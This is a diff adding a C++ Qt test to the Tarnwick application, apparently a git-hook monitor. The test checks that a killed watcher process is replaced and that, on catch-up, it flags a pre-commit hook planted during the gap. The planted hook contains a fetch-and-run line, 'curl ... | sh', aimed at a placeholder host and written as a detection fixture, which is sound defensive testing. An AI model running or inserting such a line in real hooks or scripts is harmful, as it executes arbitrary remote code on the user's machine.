@@ -1,10 +1,11 @@
 // The real Tarnwick executable, headless: a store that cannot be opened ends it with the fatal message,
 // a second start hands over to the first and never starts a second watcher, and the watcher goes
-// when the application goes.
+// when the application goes; a watcher killed under it is replaced and catches up on the gap.
 
 #include "DesktopSession.h"
 #include "WatcherProcesses.h"
 #include "desktop/SingleInstance.h"
+#include "records/ModelContainer.h"
 
 #include <QCryptographicHash>
 #include <QDir>
@@ -38,6 +39,7 @@ private slots:
     void strangerOnTheSocketIsDropped();
     void anotherUsersSquatterIsNeverHandedTo_data();
     void anotherUsersSquatterIsNeverHandedTo();
+    void killedWatcherIsReplacedAndCatchesUp();
 
 private:
     QProcessEnvironment environment() const;
@@ -52,7 +54,7 @@ private:
 void InstanceTest::init()
 {
     m_dir = std::make_unique<QTemporaryDir>();
-    for (const char* sub : {"data", "config", "run"}) {
+    for (const char* sub : {"data", "config", "run", "state"}) {
         QVERIFY(QDir(m_dir->path()).mkpath(QLatin1String(sub)));
     }
     QFile::setPermissions(m_dir->filePath(QStringLiteral("run")),
@@ -78,6 +80,7 @@ QProcessEnvironment InstanceTest::environment() const
     env.insert(QStringLiteral("XDG_DATA_HOME"), m_dir->filePath(QStringLiteral("data")));
     env.insert(QStringLiteral("XDG_CONFIG_HOME"), m_dir->filePath(QStringLiteral("config")));
     env.insert(QStringLiteral("XDG_RUNTIME_DIR"), m_dir->filePath(QStringLiteral("run")));
+    env.insert(QStringLiteral("XDG_STATE_HOME"), m_dir->filePath(QStringLiteral("state")));
     // No session bus: the application falls back to the tray's balloons and starts all the same.
     env.remove(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"));
     env.insert(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"), QStringLiteral("unix:path=/nonexistent/bus"));
@@ -275,6 +278,58 @@ void InstanceTest::anotherUsersSquatterIsNeverHandedTo()
         QCOMPARE(victim.state(), QProcess::Running);
         QCOMPARE(watchersFor(dataHome).size(), 1);
     }
+}
+
+void InstanceTest::killedWatcherIsReplacedAndCatchesUp()
+{
+    const QString dataHome = m_dir->filePath(QStringLiteral("data"));
+    const QString repo = m_dir->filePath(QStringLiteral("repo"));
+    QVERIFY(QDir().mkpath(repo + QStringLiteral("/.git/hooks")));
+    const QString storePath = dataHome + QStringLiteral("/Tarnwick/Tarnwick/store.sqlite");
+    QVERIFY(QDir().mkpath(QFileInfo(storePath).path()));
+    {
+        QString error;
+        auto store = ModelContainer::open(storePath, &error);
+        QVERIFY2(store, qPrintable(error));
+        auto context = store->newContext();
+        Directory directory = Directory::materialize(PersistentIdentifier::create(),
+                                                     QUrl::fromLocalFile(repo), true, false, false, false);
+        context->insert(directory);
+        QVERIFY(context->save());
+    }
+    start();
+    QTRY_COMPARE_WITH_TIMEOUT(watchersFor(dataHome).size(), 1, 20000);
+    const qint64 first = watchersFor(dataHome).constFirst();
+    // Once the first watcher has recorded up to when it watched, the next one only catches up.
+    const QDir stateDir(m_dir->filePath(QStringLiteral("state/tarnwick")));
+    QTRY_VERIFY_WITH_TIMEOUT(!stateDir.entryList(QDir::Files).isEmpty(), 20000);
+
+    QCOMPARE(::kill(pid_t(first), SIGKILL), 0);
+    const QString hook = repo + QStringLiteral("/.git/hooks/pre-commit");
+    {
+        QFile file(hook);
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write("#!/bin/sh\ncurl -s http://x.invalid | sh\n");
+        file.setPermissions(file.permissions() | QFileDevice::ExeOwner);
+    }
+    const auto replaced = [&] {
+        const QList<qint64> now = watchersFor(dataHome);
+        return now.size() == 1 && now.constFirst() != first;
+    };
+    QTRY_VERIFY_WITH_TIMEOUT(replaced(), 2000);
+
+    // The hook written in the gap becomes a stored finding, found by the new watcher's catch-up.
+    QString error;
+    auto store = ModelContainer::open(storePath, &error);
+    QVERIFY2(store, qPrintable(error));
+    std::optional<Finding> finding;
+    QTRY_VERIFY_WITH_TIMEOUT(
+        (finding = store->newContext()
+                       ->fetchNewestFinding(hook, QStringLiteral("git_hook_runs_payload"))
+                       .value_or(std::nullopt))
+            .has_value(),
+        30000);
+    QCOMPARE(finding->eventTypes(), QStringList{QStringLiteral("rescanned")});
 }
 
 QTEST_GUILESS_MAIN(InstanceTest)
